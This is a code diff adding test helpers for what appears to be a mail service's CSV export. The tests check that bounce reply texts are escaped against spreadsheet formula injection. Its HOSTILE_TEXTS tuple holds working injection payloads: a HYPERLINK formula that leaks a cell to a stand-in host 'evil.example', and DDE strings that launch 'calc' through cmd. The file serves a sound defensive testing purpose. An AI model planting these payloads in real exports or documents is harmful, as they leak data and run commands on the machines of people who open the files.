@@ -122,3 +122,61 @@ def json_of(fixture: WebFixture, d: Deferred[Any]) -> tuple[Any, Any]:
     """The response and its JSON body."""
     response, text = body_of(fixture, d)
     return response, json.loads(text)
+
+
+#: Cell values a sender of returned mail (or a remote MTA's reply) may choose;
+#: every CSV path is tested with these same values.
+HOSTILE_TEXTS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+    'plain, "quoted"\r\nsecond line',
+)
+#: What starts a formula (OWASP): no CSV cell may start with one unescaped.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+async def store_hostile(store: Any, at: float = T0) -> None:
+    """One message whose recipients failed with each of :data:`HOSTILE_TEXTS` as the
+    reply text (and a recipient address starting with ``-``)."""
+    if not store._open:
+        await store.open()
+    result = await store.enqueue(NewMessage(
+        sender="app@sender.test",
+        recipients=tuple(NewRecipient(f"-r{i}@x.test") for i in range(len(HOSTILE_TEXTS))),
+        body=b"Subject: hi\r\n\r\nhello\r\n"), at)
+    await store.record_attempts([
+        AttemptResult(r.delivery_id, State.failed, at + 5, code=550, status="5.1.1",
+                      text=text, reason="userunknown", hard=True, remote_host=text)
+        for r, text in zip(result.recipients, HOSTILE_TEXTS, strict=True)])
+
+
+def check_csv_cells(case: Any, text: str) -> list[dict[str, str]]:
+    """Assert that no cell of a CSV text starts like a formula; return its rows as dicts.
+
+    Also checks the one cell format: booleans ``true``/``false``, hostile
+    reply texts present with a leading ``'``.
+    """
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    for row in rows:
+        for cell in row:
+            case.assertFalse(cell.startswith(FORMULA_STARTS), repr(cell))
+            case.assertFalse(cell.lstrip().startswith(FORMULA_STARTS), repr(cell))
+    header, *body = rows
+    records = [dict(zip(header, row, strict=True)) for row in body]
+    hostile = [r for r in records if r["recipient"].startswith("'-r")]
+    # all but the last (plain) value start like a formula
+    case.assertEqual(sorted(r["text"] for r in hostile),
+                     sorted(["'" + t for t in HOSTILE_TEXTS[:-1]] + [HOSTILE_TEXTS[-1]]))
+    case.assertEqual({r["hard"] for r in records} - {"true", "false"}, set())
+    case.assertEqual({r["hard"] for r in hostile}, {"true"})
+    return records
